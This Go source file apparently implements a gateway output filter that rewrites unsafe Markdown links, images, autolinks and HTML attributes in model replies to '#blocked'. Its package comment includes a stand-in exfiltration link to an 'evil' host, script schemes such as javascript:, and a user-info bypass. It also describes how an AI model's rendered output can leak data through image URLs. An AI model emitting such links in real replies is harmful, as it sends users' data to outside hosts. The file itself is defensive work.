// Package mdlinks is the markdown-links built-in: it parses model output as
// CommonMark and neutralizes every link or image whose target is not an
// http or https URL to a host in allow_domains, so a reply rendered as
// Markdown cannot carry data to another host (![](https://evil/?q=...)) or
// run script (javascript:, data:, vbscript:).
//
// What it changes, and nothing else (text with no offending link comes out
// byte for byte):
//   - inline links and images, and link reference definitions: the
//     destination is replaced by "#blocked" (the visible text stays);
//   - autolinks (<scheme:...>): a backslash is put before "<", so the URL
//     shows as text and is no longer a link;
//   - raw HTML (inline or blocks): the value of each URL attribute (href,
//     src, srcset, action, formaction, poster, ...) with an unsafe target,
//     every event handler (on...) and every style that loads something is
//     replaced by "#blocked";
//   - a text that ends inside an unfinished link (an unmatched "[" in the
//     last paragraph, "[text]" or "[text](" at the end, "[label]:" without
//     a destination, or an unclosed "<tag"): a zero-width space
//     (HoldMarker) is appended, which renders as nothing.
//
// Code spans and code blocks are left alone. Targets are judged as a
// browser sees them: entities and backslash escapes decoded, tabs and
// newlines dropped, the host percent-decoded, converted to Punycode and
// matched exactly; user-info ("https://allowed@evil"), protocol-relative
// and relative URLs never pass; same-page fragments ("#top") do.
//
// Streaming: the gateway's incremental guard releases a prefix only when
// judging it and the rest apart gives the bytes of judging the whole; the
// last rule above makes that fail for every prefix that ends inside a link
// still open, so only an unfinished link is held back (see
// appendUnfinished), and a link completed later is judged whole.
package mdlinks

import (
	"fmt"
	"slices"
	"strings"
	"unsafe"

	"github.com/moat-gateway/moat/plugins/internal/cfgcache"
	"github.com/moat-gateway/moat/sdk/abi"
	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/ast"
	"github.com/yuin/goldmark/text"
)

// Blocked replaces a neutralized target.
const Blocked = "#blocked"

// Config is the plugin's config table.
type Config struct {
	// AllowDomains lists the hosts links and images may point to (exact
	// match, no wildcards). Empty allows none.
	AllowDomains []string `json:"allow_domains"`
}

type compiled struct {
	allow map[string]bool
}

var configs cfgcache.Cache[compiled]

func loadConfig(req *abi.Request) (compiled, error) {
	return configs.Get(req.Config, func([]byte) (compiled, error) {
		var c Config
		if err := req.DecodeConfig(&c); err != nil {
			return compiled{}, err
		}
		allow, err := parseAllow(c.AllowDomains)
		if err != nil {
			return compiled{}, err
		}
		return compiled{allow: allow}, nil
	})
}

// Output is the output-phase handler.
func Output(req abi.Request) abi.Verdict {
	cfg, err := loadConfig(&req)
	if err != nil {
		return abi.RejectVerdict("markdown-links: " + err.Error())
	}
	res, err := Neutralize(req.Text, cfg.allow)
	if err != nil {
		return abi.RejectVerdict("markdown-links: " + err.Error())
	}
	if res.Text == req.Text {
		return abi.AllowVerdict()
	}
	reason := fmt.Sprintf("markdown-links: neutralized %d link target(s)", res.Neutralized)
	if res.Neutralized == 0 {
		reason = "markdown-links: the text ends inside an unfinished link"
	}
	v := abi.ModifyVerdict(res.Text, reason)
	v.Findings = res.Findings
	return v
}

// Result is what Neutralize did.
type Result struct {
	// Text is the output.
	Text string
	// Neutralized counts the link targets replaced or unlinked.
	Neutralized int
	// Findings locate them in the input (Rule "unsafe-link" or
	// "unfinished-link").
	Findings []abi.Finding
}

// edit replaces text[start:end] with repl.
type edit struct {
	start, end int
	repl       string
	rule       string
}

var md = goldmark.New()

// Neutralize applies the rules of the package comment to s, with allow the
// normalized allowed hosts.
func Neutralize(s string, allow map[string]bool) (Result, error) {
	if !strings.ContainsAny(s, "[<") { // every link construct has one

		return Result{Text: s}, nil
	}
	src := []byte(s)
	doc := md.Parser().Parse(text.NewReader(src))
	safe := func(t string) bool { return safeTarget(t, allow) }
	var edits []edit
	var walkErr error
	target := func(dest []byte) {
		if len(dest) == 0 || safe(decodeMarkdownTarget(dest)) {
			return
		}
		off := offsetIn(src, dest)
		if off < 0 {
			walkErr = fmt.Errorf("cannot locate the link target %q in the text", truncate(dest))
			return
		}
		edits = append(edits, edit{off, off + len(dest), Blocked, "unsafe-link"})
	}
	var literal []int // offsets of "[" and "<" left as text
	_ = ast.Walk(doc, func(n ast.Node, entering bool) (ast.WalkStatus, error) {
		if !entering {
			return ast.WalkContinue, nil
		}
		switch n := n.(type) {
		case *ast.Link:
			target(n.Destination)
		case *ast.Image:
			target(n.Destination)
		case *ast.LinkReferenceDefinition:
			target(n.Destination)
		case *ast.AutoLink:
			label := n.Label(src)
			url := string(n.URL(src))
			if n.AutoLinkType == ast.AutoLinkEmail || !safe(url) {
				off := offsetIn(src, label)
				if off < 1 || src[off-1] != '<' {
					walkErr = fmt.Errorf("cannot locate the autolink %q in the text", truncate(label))
					break
				}
				edits = append(edits, edit{off - 1, off - 1, `\`, "unsafe-link"})
			}
		case *ast.RawHTML:
			edits = appendHTML(edits, src, n.Segments.Sliced(0, n.Segments.Len()), safe)
		case *ast.HTMLBlock:
			lines := n.Lines()
			segs := lines.Sliced(0, lines.Len())
			if n.HasClosure() {
				segs = append(segs, n.ClosureLine)
			}
			edits = appendHTML(edits, src, segs, safe)
			return ast.WalkSkipChildren, nil
		case *ast.CodeSpan, *ast.CodeBlock, *ast.FencedCodeBlock:
			return ast.WalkSkipChildren, nil
		case *ast.Text:
			for i := n.Segment.Start; i < n.Segment.Stop; i++ {
				if (src[i] == '[' || src[i] == '<') && !escaped(src, i) {
					literal = append(literal, i)
				}
			}
		}
		return ast.WalkContinue, nil
	})
	if walkErr != nil {
		return Result{}, walkErr
	}
	edits = appendUnfinished(edits, src, literal)
	if len(edits) == 0 {
		return Result{Text: s}, nil
	}
	return apply(s, edits), nil
}

// appendHTML neutralizes the unsafe attributes of raw HTML made of segs
// (one per line; a tag may span lines, and container markers such as "> "
// between the lines are not part of it).
func appendHTML(edits []edit, src []byte, segs []text.Segment, safe func(string) bool) []edit {
	var buf []byte
	var pos []int // pos[k] is the source offset of buf[k]
	for _, sg := range segs {
		for k := sg.Start; k < sg.Stop && k < len(src); k++ {
			buf = append(buf, src[k])
			pos = append(pos, k)
		}
	}
	for _, sp := range htmlURLValues(buf, 0, len(buf), safe, nil) {
		if sp.start == sp.end { // empty value: insert
			at := len(src)
			if sp.start < len(pos) {
				at = pos[sp.start]
			}
			edits = append(edits, edit{at, at, Blocked, "unsafe-link"})
			continue
		}
		edits = append(edits, edit{pos[sp.start], pos[sp.end-1] + 1, Blocked, "unsafe-link"})
	}
	return edits
}

// apply makes the edits (duplicates, from links sharing one reference
// definition, count once).
func apply(s string, edits []edit) Result {
	slices.SortFunc(edits, func(a, b edit) int {
		if a.start != b.start {
			return a.start - b.start
		}
		return a.end - b.end
	})
	edits = slices.CompactFunc(edits, func(a, b edit) bool { return a.start == b.start && a.end == b.end })
	var res Result
	var b strings.Builder
	b.Grow(len(s) + 16*len(edits))
	last := 0
	for _, e := range edits {
		if e.start < last { // overlapping: keep the first
			continue
		}
		b.WriteString(s[last:e.start])
		b.WriteString(e.repl)
		last = e.end
		res.Findings = append(res.Findings, abi.Finding{Rule: e.rule, Start: e.start, End: e.end})
		if e.rule == "unsafe-link" {
			res.Neutralized++
		}
	}
	b.WriteString(s[last:])
	res.Text = b.String()
	return res
}

// escaped reports whether src[i] follows an odd number of backslashes.
func escaped(src []byte, i int) bool {
	n := 0
	for j := i - 1; j >= 0 && src[j] == '\\'; j-- {
		n++
	}
	return n%2 == 1
}

// offsetIn returns the offset of b in src when b is a slice of src's
// memory (goldmark hands out such slices), or -1.
func offsetIn(src, b []byte) int {
	if len(b) == 0 || len(src) == 0 {
		return -1
	}
	base := uintptr(unsafe.Pointer(unsafe.SliceData(src)))
	p := uintptr(unsafe.Pointer(unsafe.SliceData(b)))
	if p < base || p+uintptr(len(b)) > base+uintptr(len(src)) {
		return -1
	}
	return int(p - base)
}

func truncate(b []byte) string {
	if len(b) > 40 {
		return string(b[:40]) + "..."
	}
	return string(b)
}
